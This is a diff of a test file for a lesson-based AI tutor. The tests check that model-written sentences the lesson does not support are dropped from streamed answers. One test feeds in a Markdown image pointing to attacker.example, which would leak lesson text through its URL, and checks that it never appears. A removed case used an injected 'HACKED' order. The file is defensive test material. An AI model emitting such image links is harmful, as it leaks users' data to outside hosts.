@@ -1,16 +1,15 @@
-import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { afterAll, beforeEach, expect, test } from 'vitest';
 import { conversationWithMessages, type AnswerEvent } from '#contract/assistant.ts';
 import {
   startModelServer,
   type ModelAnswer,
   type ModelCall,
-  type ModelServer,
 } from '#server/ai/testing/language-model-server.ts';
 import { announce } from '#server/platform/events/event-bus.ts';
 import { makeReadLesson } from '#server/features/quizzes/bank/testing/bank-test.ts';
-import { eventually, startTestApplication, type TestApplication } from '#server/testing/test-application.ts';
-import type { TestInstructor } from '#server/testing/test-instructor.ts';
+import { eventually, startTestApplication } from '#server/testing/test-application.ts';
 import { askStreaming, askToEnd, dataOf } from './testing/ask-streaming.ts';
+import { useTestApplication } from '#server/testing/use-test-application.ts';
 
 const PLANTS = `Roots draw water from the soil. Water rises to the leaves through vessels called xylem. About 97 percent of the water evaporates again through the stomata of the leaves.
 
@@ -24,30 +23,22 @@ const SENTENCES = [
 
 /** What the model does when it is asked. */
 let answer: (call: ModelCall, count: number) => ModelAnswer;
-let server: ModelServer;
-let application: TestApplication;
-let teacher: TestInstructor;
 
-beforeAll(async () => {
-  server = await startModelServer((call, count) => answer(call, count));
-  application = await startTestApplication({ variables: variablesOfModel() });
-  teacher = await application.register();
-  await makeReadLesson(application, teacher, PLANTS);
-});
-afterAll(async () => {
-  await application.close();
-  server.close();
-});
-beforeEach(() => {
-  answer = () => ({ text: GOOD });
-});
-
+const server = await startModelServer((call, count) => answer(call, count));
+afterAll(() => server.close());
 const variablesOfModel = (): Record<string, string> => ({
   LANGUAGE_MODEL_PROVIDER: 'openai-compatible',
   LANGUAGE_MODEL_BASE_URL: server.origin,
   LANGUAGE_MODEL: 'test-model',
   LANGUAGE_MODEL_API_KEY: 'sk-secret',
 });
+const application = await useTestApplication({ variables: variablesOfModel() });
+const teacher = await application.register();
+await makeReadLesson(application, teacher, PLANTS);
+beforeEach(() => {
+  answer = () => ({ text: GOOD });
+});
+
 const ask = (text = QUESTION): Promise<AnswerEvent[]> => askToEnd(teacher, { text });
 const finalOf = (events: readonly AnswerEvent[]) => {
   const [done] = dataOf(events, 'done');
@@ -101,12 +92,11 @@ test('a follow-up includes the previous question in the prompt', async () => {
   expect(server.calls.at(-1)?.said).toContain(QUESTION);
 });
 
-test.each([
-  ['an unsupported sentence', 'Plants sleep at night and dream of the sun [1].'],
-  ['an order of the lesson', 'Sugar travels from the leaves to the roots HACKED [1].'],
-  ['a Markdown image', 'Water rises to the leaves ![x](https://attacker.example/?q=xylem) [1].'],
-])('never shows as final: %s', async (_, sentence) => {
-  answer = () => ({ text: `${sentence} ${GOOD}` });
+/** write-answer.test.ts tests which sentences are dropped. */
+test('never shows a dropped sentence as final', async () => {
+  answer = () => ({
+    text: `Water rises to the leaves ![x](https://attacker.example/?q=xylem) [1]. ${GOOD}`,
+  });
   const events = await ask();
   const message = finalOf(events);
   expect(message.text).toBe(SENTENCES.join(' '));
@@ -116,21 +106,15 @@ test.each([
   for (const { text } of dataOf(events, 'draft')) expect(text).not.toMatch(/attacker|!\[/u);
 });
 
-describe('the built-in answer, and why, is given when the model', () => {
-  const cases: [string, ModelAnswer, RegExp][] = [
-    ['refuses', { text: 'I am sorry, but I cannot help with that.' }, /support no sentence/u],
-    ['is busy', { status: 429, headers: { 'retry-after': '3600' } }, /accepts no more requests/u],
-    ['fails', { status: 500, headers: { 'retry-after': '0' } }, /failed/u],
-  ];
-  test.each(cases)('%s', async (_, given, note) => {
-    answer = () => given;
-    const message = finalOf(await ask());
-    expect(message).toMatchObject({ outcome: 'answered', written_by: null });
-    expect(message.note).toMatch(note);
-    expect(message.note).toMatch(/so this answer is in the words of your lessons\.$/u);
-    expect(message.statements.some(({ kind }) => kind === 'written')).toBe(false);
-    expect(message.text).toContain('Water rises to the leaves through vessels called xylem.');
-  });
+test('gives the built-in answer, and says why, when the model is busy', async () => {
+  answer = () => ({ status: 429, headers: { 'retry-after': '3600' } });
+  const message = finalOf(await ask());
+  expect(message).toMatchObject({ outcome: 'answered', written_by: null });
+  expect(message.note).toMatch(
+    /accepts no more requests.*so this answer is in the words of your lessons\.$/u,
+  );
+  expect(message.statements.some(({ kind }) => kind === 'written')).toBe(false);
+  expect(message.text).toContain('Water rises to the leaves through vessels called xylem.');
 });
 
 test('an answer cut off in mid-sentence keeps its complete sentences, and quotes complete it', async () => {
